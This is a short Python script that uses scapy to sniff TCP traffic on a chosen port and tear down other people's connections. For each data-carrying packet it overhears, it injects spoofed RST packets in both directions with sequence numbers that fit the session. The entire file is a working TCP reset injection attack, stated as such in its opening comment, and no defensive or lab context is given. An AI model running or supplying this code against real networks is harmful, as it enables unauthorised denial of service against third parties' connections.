#!/usr/bin/env python3
# Ends other people's TCP connections: whatever is overheard is answered with a RST that fits.
from scapy.all import *
import sys

PORT = int(sys.argv[1])
IFACE = sys.argv[2] if len(sys.argv) > 2 else conf.iface


def kill(pkt):
    ip, tcp = pkt[IP], pkt[TCP]
    if tcp.flags.R or tcp.flags & 0x01:
        return
    rst = IP(src=ip.dst, dst=ip.src) / TCP(sport=tcp.dport, dport=tcp.sport, flags="R", seq=tcp.ack)
    forward = IP(src=ip.src, dst=ip.dst) / TCP(sport=tcp.sport, dport=tcp.dport, flags="RA",
                                               seq=tcp.seq + len(tcp.payload), ack=tcp.ack)
    send([rst, forward], verbose=0)
    return "reset %s:%d > %s:%d" % (ip.src, tcp.sport, ip.dst, tcp.dport)


print("waiting", flush=True)
sniff(iface=IFACE, filter="tcp port %d and tcp[tcpflags] & tcp-ack != 0" % PORT,
      lfilter=lambda p: TCP in p and len(p[TCP].payload) > 0, prn=kill, count=1, timeout=20)
